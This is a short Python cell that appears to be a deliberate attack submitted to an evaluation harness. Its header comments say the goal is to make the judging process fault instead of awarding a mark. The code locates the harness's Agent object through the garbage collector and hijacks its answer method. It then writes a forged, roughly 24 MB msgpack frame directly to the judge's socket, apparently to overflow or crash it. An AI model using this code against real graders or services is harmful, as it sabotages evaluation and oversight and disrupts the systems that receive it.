# kind = "harm"
# goal = "the process that judges it, and so a fault in place of a mark"
# trick = "an agent of its own whose answer is exactly as long as the protocol takes, and longer when the judge passes it on"
# mark = 0
# %%
import gc, os, struct
import msgpack
gc.unfreeze()
for thing in gc.get_objects():
    if type(thing).__name__ == "Agent":
        agent = thing
def answer(frame):
    if frame.message[1] != "cell":
        os._exit(0)
    head = b"\x94" + msgpack.packb(frame.message[0]) + b"\xa2ok\x92\xa2ok\x91\xdb"
    size = (24 << 20) - len(head) - 5
    agent.channel.sock.sendall(struct.pack("<II", 24 << 20, 0) + head + struct.pack(">I", size) + b"x" * size + b"\x90")
agent.answer = answer
